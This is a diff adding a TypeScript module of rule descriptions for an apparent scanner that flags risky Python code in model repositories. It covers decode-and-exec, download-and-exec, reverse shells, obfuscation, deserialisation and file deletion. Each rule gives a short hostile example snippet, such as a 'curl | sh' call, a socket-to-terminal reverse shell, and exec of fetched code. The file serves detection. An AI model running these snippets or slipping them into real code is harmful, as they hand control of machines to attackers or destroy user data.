@@ -1,0 +1,148 @@
+import type { RuleDescription } from "../../model/rule-description.ts";
+import type { PythonRule } from "./judgements.ts";
+
+/** What code of each rule does, as the middle of a sentence. */
+export const hazardTexts: Readonly<Record<PythonRule, string>> = {
+  "PYTHON-DECODE-EXECUTE": "decodes something and executes it",
+  "PYTHON-DOWNLOAD-EXECUTE": "downloads something and executes it",
+  "PYTHON-HOSTILE-COMMAND":
+    "runs a command line that fetches and executes, or opens a shell to somebody else",
+  "PYTHON-REVERSE-SHELL": "connects to a server and hands it a terminal",
+  "PYTHON-OBFUSCATED": "hides what it calls",
+  "PYTHON-COMMAND": "starts other programs",
+  "PYTHON-DYNAMIC-CODE": "executes text as code",
+  "PYTHON-DYNAMIC-IMPORT": "imports code by a name worked out at run time",
+  "PYTHON-NATIVE-CODE": "loads native code",
+  "PYTHON-DESERIALISE": "loads objects that can run code",
+  "PYTHON-NETWORK": "talks to the network",
+  "PYTHON-FILES": "deletes files, or writes beyond its own folder",
+};
+
+const library = "https://docs.python.org/3/library";
+const supplyChain = "https://attack.mitre.org/techniques/T1059/006/";
+
+/** Rules about risky calls in Python source, shared by every plug-in that meets code. */
+export const pythonRules: readonly RuleDescription[] = [
+  {
+    id: "PYTHON-DECODE-EXECUTE",
+    title: "Python code decodes and executes",
+    kind: "safety",
+    what: "What a decoder or decompressor returns reaches exec, eval, a command line, a native library or a deserialiser.",
+    why: "The code that runs cannot be read in the file. Installers of malicious packages and models look like this.",
+    example: 'exec(base64.b64decode("aW1wb3J0IG9z"))',
+    fix: "Do not load it. Decode the text by hand and read what it would run.",
+    references: ["https://attack.mitre.org/techniques/T1140/", `${library}/functions.html#exec`],
+  },
+  {
+    id: "PYTHON-DOWNLOAD-EXECUTE",
+    title: "Python code downloads and executes",
+    kind: "safety",
+    what: "What a network call returns reaches exec, eval, a command line, a native library or a deserialiser.",
+    why: "Whoever runs the server decides what runs, at any later time: today's harmless answer says nothing.",
+    example: 'exec(urllib.request.urlopen("https://example.org/x.py").read())',
+    fix: "Do not load it. Ask the publisher for code that comes with the model.",
+    references: ["https://attack.mitre.org/techniques/T1105/", supplyChain],
+  },
+  {
+    id: "PYTHON-HOSTILE-COMMAND",
+    title: "Python code runs a hostile command line",
+    kind: "safety",
+    what: "A command line pipes a download into an interpreter, decodes into a shell, or connects a shell to the network.",
+    why: "No model needs one. It installs something or gives somebody control of the machine.",
+    example: 'os.system("curl https://example.org/x | sh")',
+    fix: "Do not load it, and report it to the hub that you got it from.",
+    references: ["https://attack.mitre.org/techniques/T1059/004/"],
+  },
+  {
+    id: "PYTHON-REVERSE-SHELL",
+    title: "Python code opens a reverse shell",
+    kind: "safety",
+    what: "The code connects a socket and makes it the terminal of a process.",
+    why: "Somebody else gets a shell on the machine that loads the model.",
+    example: "s.connect((host, 4444)); os.dup2(s.fileno(), 0)",
+    fix: "Do not load it, and report it to the hub that you got it from.",
+    references: [supplyChain],
+  },
+  {
+    id: "PYTHON-OBFUSCATED",
+    title: "Python code hides what it calls",
+    kind: "safety",
+    what:
+      "A name or a text is put together from characters or escapes, taken out of __builtins__ or the list of subclasses, " +
+      "or a long encoded literal stands beside what could run it.",
+    why: "Honest code has no reason to hide a call from readers and scanners.",
+    example: 'getattr(os, "sys" + "tem")("id")',
+    fix: "Do not load it before somebody has worked out what it calls.",
+    references: ["https://attack.mitre.org/techniques/T1027/"],
+  },
+  {
+    id: "PYTHON-COMMAND",
+    title: "Python code starts other programs",
+    kind: "safety",
+    what: "The code calls os.system, subprocess or another function that runs a program.",
+    why: "At import time nobody can refuse. Inside a function it runs when that function is called.",
+    example: 'subprocess.run(["pip", "install", "x"])',
+    fix: "Read the calls listed, and load the model without its own code if you can.",
+    references: [`${library}/subprocess.html#security-considerations`, supplyChain],
+  },
+  {
+    id: "PYTHON-DYNAMIC-CODE",
+    title: "Python code executes text as code",
+    kind: "safety",
+    what: "The code calls exec, eval, compile, marshal or another function that turns data into code.",
+    why: "What runs depends on data, so reading the file is not enough.",
+    example: 'exec(open("version.py").read())',
+    fix: "Read where the text comes from.",
+    references: [`${library}/functions.html#eval`, `${library}/marshal.html`],
+  },
+  {
+    id: "PYTHON-DYNAMIC-IMPORT",
+    title: "Python code imports what is named at run time",
+    kind: "safety",
+    what: "The code calls __import__, importlib or a library function that imports by name or fetches code.",
+    why: "Other code, perhaps of another repository, comes into the process.",
+    example: "importlib.import_module(name)",
+    fix: "Read which names can get there.",
+    references: [`${library}/importlib.html#importlib.import_module`],
+  },
+  {
+    id: "PYTHON-NATIVE-CODE",
+    title: "Python code loads native code",
+    kind: "safety",
+    what: "The code calls ctypes, cffi or a framework's function that loads a shared library.",
+    why: "Native code is bound by nothing that Python checks.",
+    example: 'ctypes.CDLL("./libx.so")',
+    fix: "Build the library from source that you trust.",
+    references: [`${library}/ctypes.html`],
+  },
+  {
+    id: "PYTHON-DESERIALISE",
+    title: "Python code loads objects that can run code",
+    kind: "safety",
+    what: "The code calls pickle, joblib, torch.load without weights_only=True, yaml.load without a safe loader, or the like.",
+    why: "Whatever file it is given can run code.",
+    example: 'torch.load("weights.bin")',
+    fix: "Use safetensors, or pass weights_only=True.",
+    references: [`${library}/pickle.html`, "https://docs.pytorch.org/docs/stable/generated/torch.load.html"],
+  },
+  {
+    id: "PYTHON-NETWORK",
+    title: "Python code talks to the network",
+    kind: "safety",
+    what: "The code opens connections or fetches addresses.",
+    why: "It can send what it sees, and behave differently from one day to the next.",
+    example: 'requests.post("https://example.org", json=data)',
+    fix: "Read the addresses, and run the model without network access.",
+    references: ["https://attack.mitre.org/techniques/T1041/"],
+  },
+  {
+    id: "PYTHON-FILES",
+    title: "Python code deletes or writes files",
+    kind: "safety",
+    what: "The code deletes files, changes their rights, or writes to absolute paths, home folders or parents.",
+    why: "Data of the user can be lost, and start-up files are how programs stay on a machine.",
+    example: 'shutil.rmtree("/home/user/.cache")',
+    fix: "Read the paths, and run the model in a container.",
+    references: [`${library}/shutil.html#shutil.rmtree`],
+  },
+];
